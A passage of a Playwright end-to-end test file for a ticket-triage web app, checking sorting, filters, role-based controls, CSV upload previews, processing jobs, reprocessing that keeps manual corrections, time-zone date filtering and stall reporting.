  await page.waitForSelector('#tickets-table tbody tr[data-id]');
  await page.click('#tickets-table th[data-sort=priority]');
  // Only classified tickets have a priority: P0 first (T-102 was made P0
  // by the correction above), then by creation, then by id.
  await page.waitForFunction(() => document.querySelector('#tickets-table th[data-sort=priority]').getAttribute('aria-sort') === 'ascending');
  await page.waitForFunction(() => document.querySelectorAll('#tickets-table tbody tr[data-id]').length === 6);
  assert.deepEqual(await rowIds(page, 'tickets'), ['T-102', 'T-103', 'T-100', 'T-105', 'T-104', 'T-101']);
  assert.match(page.url(), /sort=priority/);
  await page.click('#tickets-table th[data-sort=priority]');
  await page.waitForFunction(() => document.querySelector('#tickets-table tbody tr[data-id]')?.dataset.id === 'T-101');
  assert.deepEqual(await rowIds(page, 'tickets'), ['T-101', 'T-104', 'T-105', 'T-100', 'T-103', 'T-102']);
  await page.click('#tab-history');
  await page.click('#history-table th[data-sort=confidence_topic]');
  await page.waitForFunction(() => document.querySelector('#history-table tbody tr[data-id]')?.dataset.id === 'T-105');
  assert.deepEqual(await rowIds(page, 'history'), ['T-105', 'T-102', 'T-103', 'T-101', 'T-104', 'T-100']);
  await ctx.close();
});

test('a slow filter greys the table, and a late answer never replaces a newer one', async () => {
  const { ctx, page } = await openPage(ADMIN, '/?tab=tickets');
  await page.waitForSelector('#tickets-table tbody tr[data-id]');
  // The list for Angry answers 2.5 s late; the one for Curious at once.
  let released;
  await page.route(/\/api\/tickets\?.*sentiment=Angry/, async (route) => {
    await new Promise((r) => { released = r; setTimeout(r, 2500); });
    await route.continue().catch(() => {});
  });
  await page.click('#f-sentiment summary');
  await page.check('#f-sentiment input[value=Angry]');
  await page.waitForSelector('#panel-tickets .table-wrap.loading');
  assert.equal(await page.getAttribute('#panel-tickets .table-wrap', 'aria-busy'), 'true');
  await page.uncheck('#f-sentiment input[value=Angry]');
  await page.check('#f-sentiment input[value=Curious]');
  await waitRows(page, 'tickets', ['T-101', 'T-104']);
  await page.waitForSelector('#panel-tickets .table-wrap:not(.loading)');
  // The Angry answer arrives now: the table stays on Curious.
  if (released) released();
  await page.waitForTimeout(3000);
  assert.deepEqual((await rowIds(page, 'tickets')).sort(), ['T-101', 'T-104']);
  assert.equal(await page.locator('#panel-tickets .table-wrap.loading').count(), 0);
  await ctx.close();
});

test('viewer sees no write buttons; operator no correction; admin all', async () => {
  const writeControls = ['#ctl-upload', '#ctl-process', '#export-csv', '#export-tickets'];
  const v = await openPage(viewerKey, '/?tab=history');
  assert.equal(await v.page.textContent('#role-badge'), 'viewer');
  for (const sel of writeControls) assert.equal(await v.page.isVisible(sel), false, sel);
  await v.page.waitForSelector('#history-table tbody tr[data-id="T-100"]');
  await v.page.click('#history-table tbody tr[data-id="T-100"] td.subject');
  await v.page.waitForSelector('#detail[open]');
  assert.equal(await v.page.locator('#correct-form').count(), 0);
  await v.page.keyboard.press('Escape');
  // A viewer's refresh asks again without the operator-only cache drop (no 403).
  await v.page.click('#tab-overview');
  await v.page.click('#analytics-refresh');
  await v.page.waitForTimeout(300);
  assert.equal(await v.page.isVisible('#banner'), false);
  await v.ctx.close();

  const o = await openPage(operatorKey, '/?tab=history');
  assert.equal(await o.page.textContent('#role-badge'), 'operator');
  await o.page.waitForSelector('#history-table tbody tr[data-id="T-100"]');
  for (const sel of ['#ctl-upload', '#ctl-process', '#export-csv']) assert.equal(await o.page.isVisible(sel), true, sel);
  await o.page.click('#history-table tbody tr[data-id="T-100"] td.subject');
  await o.page.waitForSelector('#detail[open]');
  assert.equal(await o.page.locator('#correct-form').count(), 0);
  await o.ctx.close();

  const a = await openPage(ADMIN, '/?tab=history');
  await a.page.waitForSelector('#history-table tbody tr[data-id="T-100"]');
  for (const sel of ['#ctl-upload', '#ctl-process', '#export-csv']) assert.equal(await a.page.isVisible(sel), true, sel);
  await a.page.click('#history-table tbody tr[data-id="T-100"] td.subject');
  await a.page.waitForSelector('#detail[open] #correct-form');
  await a.ctx.close();
});

test('fetch: each mode reports what it found and loads it into the view; "since last fetch" is kept by the server', async () => {
  const { ctx, page } = await openPage(ADMIN);
  // The key's first "since last fetch" finds every unprocessed ticket; the
  // next one, nothing new.
  const steps = [['last_24h', 2], ['last_7d', 3], ['unprocessed', 3], ['since_last_fetch', 3], ['since_last_fetch', 0]];
  for (const [mode, n] of steps) {
    await page.selectOption('#fetch-mode', mode);
    await page.click('#fetch-go');
    await page.waitForFunction((k) => new RegExp(`Found ${k} `).test(document.querySelector('#fetch-state').textContent), n);
    assert.equal(await page.getAttribute('#tab-tickets', 'aria-selected'), 'true');
    await page.evaluate(() => { document.querySelector('#fetch-state').textContent = ''; });
  }
  // A ticket stored now with a created_at of last week (it arrived late):
  // "since last fetch" finds it, after a reload too (the server kept the
  // place, not the browser).
  const late = { _id: 'T-LATE', id: 'T-LATE', subject: 'Late arrival', body: 'sent a week ago, stored now', processed: false,
    created_at: new Date(now - 7 * day), updated_at: new Date(now - 7 * day), stored_at: new Date(), source: 'test' };
  await mongo.db(DB).collection('tickets').insertOne(late);
  try {
    await page.reload();
    await page.waitForFunction(() => window.__triage && window.__triage.ready);
    await page.selectOption('#fetch-mode', 'since_last_fetch');
    await page.click('#fetch-go');
    await page.waitForFunction(() => /Found 1 /.test(document.querySelector('#fetch-state').textContent));
    assert.deepEqual(await page.evaluate(() => window.__triage.state.fetched), ['T-LATE']);
  } finally {
    await mongo.db(DB).collection('tickets').deleteOne({ _id: 'T-LATE' });
  }
  await ctx.close();
});
test('upload: a dry-run preview of stored, duplicate and rejected rows, then confirm', async () => {
  const { ctx, page } = await openPage(operatorKey);
  const tickets = mongo.db(DB).collection('tickets');
  await page.setInputFiles('#file', { name: 'new-tickets.csv', mimeType: 'text/csv', buffer: Buffer.from(uploadCsv()) });
  await page.waitForSelector('#preview-table');
  assert.equal(await page.textContent('#preview [data-count=store]'), '40 to store');
  assert.equal(await page.textContent('#preview [data-count=duplicate]'), '1 duplicate');
  assert.equal(await page.textContent('#preview [data-count=rejected]'), '2 rejected');
  const rows = await page.$$eval('#preview-table tbody tr', (trs) => trs.map((tr) => ({ status: tr.dataset.status, cells: [...tr.cells].map((c) => c.textContent.trim()) })));
  // Problems first, each with its line in the file and the reason.
  assert.deepEqual(rows.slice(0, 3).map((r) => [r.status, r.cells[0], r.cells[1]]), [['rejected', '43', 'U-BAD'], ['rejected', '44', 'U-SHORT'], ['duplicate', '42', 'T-100']]);
  assert.match(rows[0].cells[3], /subject|body/);
  assert.match(rows[1].cells[3], /field|column/);
  assert.match(rows[2].cells[3], /already stored/);
  assert.equal(rows.filter((r) => r.status === 'valid').length, 40);
  assert.equal(rows[3].cells[0], '2');
  assert.equal(await page.isVisible('#upload-confirm'), true);
  assert.match(await page.textContent('#upload-confirm'), /Store 40 tickets/);
  // A dry run stores nothing.
  assert.equal(await tickets.countDocuments({ _id: { $in: UPLOAD_IDS } }), 0);

  await page.click('#upload-confirm');
  await page.waitForSelector('#upload-state[data-done]');
  assert.match(await page.textContent('#upload-state'), /40 stored, 1 duplicate skipped, 2 rejected/);
  assert.equal(await page.getAttribute('#upload-bar', 'aria-valuenow'), '100');
  assert.equal(await page.textContent('#preview [data-count=store]'), '40 stored');
  assert.equal(await tickets.countDocuments({ _id: { $in: UPLOAD_IDS } }), 40);
  const u1 = await tickets.findOne({ _id: 'U-001' });
  assert.equal(u1.subject, UPLOAD_TEXTS[0][0]);
  assert.equal(u1.processed, false);
  // The duplicate did not overwrite the stored ticket.
  assert.equal((await tickets.findOne({ _id: 'T-100' })).subject, 'SSO login fails with Okta');
  // The page refreshed its numbers.
  await page.waitForFunction(() => document.querySelector('#stat-total').textContent === '49');
  await ctx.close();
});

test('live: numbers, charts and table refresh by themselves while processing runs, keeping scroll and filters', async () => {
  const { ctx, page } = await openPage(ADMIN, '/?tab=tickets&q=U-0&sort=created_at');
  await page.waitForFunction(() => document.querySelectorAll('#tickets-table tbody tr[data-id]').length === 40);
  await page.evaluate(() => window.scrollTo(0, 900));
  assert.ok(await page.evaluate(() => window.scrollY) > 500, 'the page scrolls');
  // The row at the top of the screen, and where it is: it must stay there.
  const anchor = await page.evaluate(() => {
    const edge = document.querySelector('.topbar').getBoundingClientRect().bottom;
    const tr = [...document.querySelectorAll('#tickets-table tbody tr[data-id]')].find((r) => r.getBoundingClientRect().top >= edge);
    return { id: tr.dataset.id, top: Math.round(tr.getBoundingClientRect().top) };
  });
  const anchorTop = () => page.evaluate((id) => Math.round(document.querySelector(`#tickets-table tbody tr[data-id="${id}"]`).getBoundingClientRect().top), anchor.id);
  const url = page.url();
  const first = UPLOAD_IDS.slice(0, 20);
  // Someone else starts processing (not this page).
  const job = await call('POST', '/api/process', { mode: 'ids', ids: first }, operatorKey);
  assert.equal(job.status, 202);
  await page.waitForFunction(() => document.querySelectorAll('#tickets-table tbody .badge.processed').length === 20, null, { timeout: 30000 });
  await page.waitForFunction(() => document.querySelector('#stat-processed').textContent === '20');
  assert.ok(Math.abs((await anchorTop()) - anchor.top) <= 2, `row ${anchor.id} stayed at ${anchor.top}px (now ${await anchorTop()}px)`);
  assert.equal(page.url(), url);
  assert.equal(await page.inputValue('#f-q'), 'U-0');
  assert.equal(await page.inputValue('#sort'), 'created_at');
  const a = await assertChartsFollow(page, { q: 'U-0' });
  assert.equal(a.processed, 20);
  await ctx.close();
});

test('processing from the page: the progress bar reaches the end', async () => {
  const { ctx, page } = await openPage(operatorKey);
  const before = await mongo.db(DB).collection('tickets').countDocuments({ processed: false });
  assert.equal(before, 23); // 20 uploaded + T-200, T-201 and the failed T-202
  await page.selectOption('#process-mode', 'unprocessed');
  await page.click('#process-go');
  await page.waitForSelector('#process-state[data-state=done]', { timeout: 60000 });
  assert.equal(await page.getAttribute('#process-bar', 'aria-valuenow'), '100');
  assert.match(await page.textContent('#process-state'), /requested 23 · classified 23 · failed 0/);
  assert.equal(await mongo.db(DB).collection('tickets').countDocuments({ processed: false }), 0);
  await page.waitForFunction(() => document.querySelector('#stat-processed').textContent === '49');
  assert.equal(await page.textContent('#stat-unprocessed'), '0');
  await assertChartsFollow(page, {});
  await ctx.close();
});

test('processing selected tickets that are already processed ends at once, saying what was skipped', async () => {
  const { ctx, page } = await openPage(operatorKey, `/?tab=tickets&q=${encodeURIComponent('T-101')}`);
  await waitRows(page, 'tickets', ['T-101']);
  await page.check('#tickets-table tbody tr[data-id="T-101"] td.check input');
  await page.selectOption('#process-mode', 'selected');
  await page.click('#process-go');
  await page.waitForSelector('#process-state[data-state=done]', { timeout: 30000 });
  assert.equal(await page.textContent('#process-state'), 'Done · requested 0 · classified 0 · failed 0 · 1 skipped (already processed)');
  assert.equal(await page.getAttribute('#process-bar', 'aria-valuenow'), '100');
  assert.equal(await page.isDisabled('#process-go'), false);
  await ctx.close();
});

test('a reload follows the job the page was following', async () => {
  const { ctx, page } = await openPage(operatorKey, `/?tab=tickets&q=${encodeURIComponent('T-10')}`);
  await waitRows(page, 'tickets', ['T-100', 'T-101', 'T-102', 'T-103', 'T-104', 'T-105']);
  await page.selectOption('#process-mode', 'reprocess');
  await page.click('#process-go');
  await page.waitForSelector('#reprocess-dialog[open]');
  const started = page.waitForResponse((r) => r.url().endsWith('/api/process') && r.status() === 202);
  await page.click('#reprocess-send');
  const job = (await (await started).json()).job_id;
  assert.match(job, /^job_/);
  // However quickly it ran, the page kept it for this tab until it saw
  // it end; kept again here, a reload must follow it by itself.
  await page.waitForSelector('#process-state[data-state=done]', { timeout: 60000 });
  await page.evaluate((id) => sessionStorage.setItem('triage.job', id), job);
  await page.reload();
  await page.waitForFunction(() => window.__triage && window.__triage.ready);
  await page.waitForSelector('#process-state[data-state=done]', { timeout: 60000 });
  // T-102 and T-105 were corrected (the detail and review tests): kept.
  assert.match(await page.textContent('#process-state'), /^Done · requested 4 · classified 4 · failed 0/);
  assert.equal(await page.evaluate(() => sessionStorage.getItem('triage.job')), null);
  await ctx.close();
});

test('reprocess asks first, with the count, and keeps a correction unless the override is ticked', async () => {
  const tickets = mongo.db(DB).collection('tickets');
  const ids = ['T-100', 'T-101', 'T-102', 'T-103', 'T-104', 'T-105'];
  const stamps = async () => Object.fromEntries((await tickets.find({ _id: { $in: ids } }).toArray())
    .map((d) => [d._id, d.processing_metadata.processed_at.getTime()]));
  const doneWith = (text) => page.waitForFunction((t) => (document.querySelector('#process-state').textContent || '').includes(t), text, { timeout: 60000 });
  const { ctx, page } = await openPage(operatorKey, `/?tab=tickets&q=${encodeURIComponent('T-10')}`);
  await waitRows(page, 'tickets', ids);
  assert.ok((await tickets.findOne({ _id: 'T-102' })).processing_metadata.corrected_at, 'T-102 was corrected by the detail test');
  assert.ok((await tickets.findOne({ _id: 'T-105' })).processing_metadata.corrected_at, 'T-105 was confirmed in the review test');
  await page.selectOption('#process-mode', 'reprocess');
  const t0 = await stamps();

  // Asked first, with the count; cancelled, nothing is sent.
  await page.click('#process-go');
  await page.waitForSelector('#reprocess-dialog[open]');
  assert.equal(await page.textContent('#reprocess-count'), 'Classify 4 tickets again with the model. 2 tickets corrected by hand keep their labels.');
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => !document.querySelector('#reprocess-dialog').open);
  assert.equal(await page.isDisabled('#process-go'), false);
  assert.deepEqual(await stamps(), t0);

  // Confirmed without the override: the four others are classified again,
  // the person's labels on T-102 and T-105 stay.
  await page.click('#process-go');
  await page.waitForSelector('#reprocess-dialog[open]');
  await page.click('#reprocess-send');
  await doneWith('Done · requested 4 · classified 4 · failed 0');
  const t1 = await stamps();
  for (const id of ids) assert.equal(t1[id] > t0[id], id !== 'T-102' && id !== 'T-105', id);
  let doc = await tickets.findOne({ _id: 'T-102' });
  assert.equal(doc.classification.priority, 'P0 (High)');
  assert.ok(doc.processing_metadata.corrected_at);

  // The override, ticked and confirmed: all six, T-102 relabelled by the
  // model, its correction kept in its history.
  await page.click('#process-go');
  await page.waitForSelector('#reprocess-dialog[open]');
  await page.check('#reprocess-override');
  assert.equal(await page.textContent('#reprocess-count'), 'Classify 6 tickets again with the model.');
  await page.click('#reprocess-send');
  await doneWith('Done · requested 6 · classified 6 · failed 0');
  doc = await tickets.findOne({ _id: 'T-102' });
  assert.equal(doc.processing_metadata.corrected_at, undefined);
  assert.ok(doc.processing_metadata.processed_at.getTime() > t1['T-102']);
  assert.equal(doc.corrections.length, 1);
  await ctx.close();
});

test('screenshots of each tab at 1280x800, with the processed tickets', async () => {
  const { ctx, page } = await openPage(ADMIN);
  await page.waitForFunction(() => document.querySelector('#stat-processed').textContent === '49');
  await page.waitForTimeout(300);
  await page.screenshot({ path: join(SHOTS, 'overview.png') });
  await page.evaluate(() => document.querySelector('.tabs').scrollIntoView());
  await page.screenshot({ path: join(SHOTS, 'analytics.png') });
  await page.evaluate(() => window.scrollTo(0, 0));
  await page.click('#tab-tickets');
  await page.waitForFunction(() => document.querySelectorAll('#tickets-table tbody tr[data-id]').length === 49);
  await page.evaluate(() => document.querySelector('.tabs').scrollIntoView());
  await page.screenshot({ path: join(SHOTS, 'tickets.png') });
  await page.click('#tab-history');
  await page.waitForFunction(() => document.querySelectorAll('#history-table tbody tr[data-id]').length === 49);
  await page.evaluate(() => document.querySelector('.tabs').scrollIntoView());
  await page.screenshot({ path: join(SHOTS, 'history.png') });
  await page.click('#history-table tbody tr[data-id="U-003"] td.subject');
  await page.waitForSelector('#detail[open] #correct-form');
  await page.screenshot({ path: join(SHOTS, 'detail.png') });
  await ctx.close();

  const phone = await openPage(ADMIN, '/', { width: 390, height: 844 });
  const overflow = await phone.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  assert.ok(overflow <= 1, `page is ${overflow}px wider than the screen`);
  await phone.page.screenshot({ path: join(SHOTS, 'phone.png') });
  await phone.ctx.close();
});

test('Escape at the first key prompt keeps the prompt, with a word on what is needed', async () => {
  const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await ctx.newPage();
  page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
  await page.goto(base + '/');
  await page.waitForSelector('#key-dialog[open]');
  await page.keyboard.press('Escape');
  assert.equal(await page.locator('#key-dialog[open]').count(), 1);
  assert.match(await page.textContent('#key-error'), /needs an API key/);
  // With a key given, Escape closes the dialog opened again from the header.
  await page.fill('#key-input', ADMIN);
  await page.click('#key-dialog button[type=submit]');
  await page.waitForFunction(() => !document.querySelector('#key-dialog').open);
  await page.click('#key-button');
  await page.waitForSelector('#key-dialog[open]');
  await page.keyboard.press('Escape');
  await page.waitForFunction(() => !document.querySelector('#key-dialog').open);
  await ctx.close();
});

test('dates are the browser\'s own days: a Los Angeles browser filters by Los Angeles days', async () => {
  // Around the Los Angeles midnight of Nov 20 2026 (08:00 UTC, PST).
  const at = (iso) => new Date(iso);
  const tz = [['TZ-1', '2026-11-20T07:30:00Z'], ['TZ-2', '2026-11-20T08:30:00Z'],
    ['TZ-3', '2026-11-21T07:00:00Z'], ['TZ-4', '2026-11-21T09:00:00Z']];
  const coll = mongo.db(DB).collection('tickets');
  await coll.insertMany(tz.map(([id, c]) => ({ _id: id, id, subject: `zone ${id}`, body: 'a time zone probe', processed: false, created_at: at(c), updated_at: at(c), source: 'test' })));
  try {
    const ctx = await browser.newContext({ viewport: { width: 1280, height: 800 }, timezoneId: 'America/Los_Angeles' });
    const page = await ctx.newPage();
    page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
    await page.goto(base + '/');
    await page.waitForSelector('#key-dialog[open]');
    await page.fill('#key-input', ADMIN);
    await page.click('#key-dialog button[type=submit]');
    await page.waitForFunction(() => window.__triage && window.__triage.ready);
    await page.goto(`${base}/?tab=tickets&q=zone%20TZ&from=2026-11-20&to=2026-11-20`);
    await page.waitForFunction(() => window.__triage && window.__triage.ready);
    // Nov 20 in Los Angeles: 00:30 and 23:00 local; not 23:30 of the 19th.
    await waitRows(page, 'tickets', ['TZ-2', 'TZ-3']);
    const shown = await page.textContent('#tickets-table tbody tr[data-id="TZ-3"]');
    assert.match(shown, /Nov 20/);
    // The chart of the day counts both on Nov 20 too (in UTC days, 23:00
    // local is Nov 21): the page asked for its own zone's days.
    await page.waitForFunction(() => window.__triage.state.analytics && window.__triage.state.analytics.total === 2);
    const a = await page.evaluate(() => window.__triage.state.analytics);
    assert.equal(a.time_zone, 'America/Los_Angeles');
    assert.deepEqual(a.created_per_day, [{ date: '2026-11-20', count: 2 }]);
    assert.deepEqual((await page.evaluate(() => window.__triage.chartData()))['ch-daily'].labels.length, 1);
    await ctx.close();
  } finally {
    await coll.deleteMany({ _id: { $in: tz.map(([id]) => id) } });
  }
});

test('with the classifier stopped a job says it is stalled, and why; started again, it ends', async () => {
  const c = services.classifier;
  c.proc.kill('SIGTERM');
  assert.equal(await c.exit, 0);
  const tickets = mongo.db(DB).collection('tickets');
  const ids = ['ST-1', 'ST-2'];
  const when = new Date();
  await tickets.insertMany(ids.map((id) => ({ _id: id, id, subject: `stall probe ${id}`, body: 'the warehouse sync is slow', processed: false, created_at: when, updated_at: when, stored_at: when, source: 'test' })));
  assert.equal(await tickets.countDocuments({ processed: false }), 2);
  const { ctx, page } = await openPage(operatorKey);
  await page.selectOption('#process-mode', 'unprocessed');
  await page.click('#process-go');
  // No ticket classified for 3 s (TRIAGE_JOB_STALL_AFTER): stalled, with why.
  await page.waitForSelector('#process-state[data-state=stalled]', { timeout: 30000 });
  assert.match(await page.textContent('#process-state'), /^Stalled · requested 2 · classified 0 · failed 0 — no ticket of this job classified or failed for \d+ s: the classifier may be stopped/);
  assert.equal(await page.isDisabled('#process-go'), true); // still followed: not over
  // The classifier back (same group: it reads the requests sent meanwhile).
  await startService('classifier', classifierEnv());
  await page.waitForSelector('#process-state[data-state=done]', { timeout: 60000 });
  assert.match(await page.textContent('#process-state'), /^Done · requested 2 · classified 2 · failed 0/);
  assert.equal(await tickets.countDocuments({ _id: { $in: ids }, processed: true }), 2);
  await ctx.close();
});

test('no console errors on any page', () => {
  assert.deepEqual(consoleErrors, []);
});
